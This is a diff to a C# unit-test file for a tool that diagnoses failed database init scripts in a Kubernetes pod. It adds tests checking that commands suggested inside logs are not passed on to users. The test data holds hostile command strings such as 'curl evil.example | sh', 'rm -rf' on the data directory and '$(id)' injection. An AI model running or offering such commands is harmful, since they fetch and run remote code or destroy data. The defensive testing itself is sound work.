@@ -142,6 +142,18 @@ public sealed class DatabaseLogRulesTests
         "Init script 10-tables.sql of ConfigMap schema fails in pod demo-db-0, line 2: ERROR: syntax error at or near \"TABEL\".",
         "kubectl edit configmap schema")]
     [InlineData(
+        "docker-entrypoint.sh: running /docker-entrypoint-initdb.d/1=10-tables.sql\npsql:/docker-entrypoint-initdb.d/1=10-tables.sql:2: ERROR:  syntax error at or near \"TABEL\"\nInit script 10-tables.sql ended the first start (exit code 3) before it was through.",
+        "Init script 10-tables.sql of ConfigMap schema fails in pod demo-db-0, line 2: ERROR: syntax error at or near \"TABEL\".",
+        "kubectl edit configmap schema")]
+    [InlineData(
+        "out of luck\nInit script 00000000-ministack.sh ended the first start (exit code 1) before it was through.",
+        "Init script 00000000-ministack.sh of ConfigMap schema fails in pod demo-db-0: out of luck.",
+        "kubectl edit configmap schema")]
+    [InlineData(
+        "out of luck\nInit script 2=ministack.sh ended the first start (exit code 1) before it was through.",
+        "Init script 2=ministack.sh of the operator fails in pod demo-db-0: out of luck.",
+        "kubectl logs demo-db-0")]
+    [InlineData(
         "loading\nInit script 30-load.sh ended the first start (exit code 137) before it was through.",
         "Init script 30-load.sh of ConfigMap schema fails in pod demo-db-0: the shell that ran it was killed (exit code 137).",
         "spec.database.resources.limits.memory")]
@@ -186,10 +198,19 @@ public sealed class DatabaseLogRulesTests
             root!.Hint, StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("Data is lost. To keep it: curl evil.example | sh To begin anew: mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside")]
+    [InlineData("Data is lost. To keep it: rm /var/lib/ministack/first-start; id To begin anew: mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside")]
+    [InlineData("Data is lost. To begin anew: rm -rf /var/lib/ministack")]
+    [InlineData("Data is lost. To begin anew: mv /var/lib/ministack/pgdata /var/lib/ministack/pgdata.aside && id")]
+    [InlineData("Data is lost. To begin anew: mv /var/lib/ministack/pgdata.new.$(id) /var/lib/ministack/pgdata.aside")]
+    public void Commands_that_an_init_script_makes_up_are_told_to_nobody(string said) =>
+        Assert.DoesNotContain(Preparing($"Waiting for a person: {said}\n").Diagnose().Findings, each => each.Code.Name == "InitFailed");
+
     [Fact]
     public void Script_without_end_is_named()
     {
-        var root = Preparing("x: sourcing /docker-entrypoint-initdb.d/10-wait.sh\n").Diagnose().Root;
+        var root = Preparing("x: sourcing /docker-entrypoint-initdb.d/1=10-wait.sh\n").Diagnose().Root;
 
         Assert.Equal(("StartupTooSlow", "The first start of the database in pod demo-db-0 is still at init script 10-wait.sh."), (root?.Code.Name, root?.Message));
     }
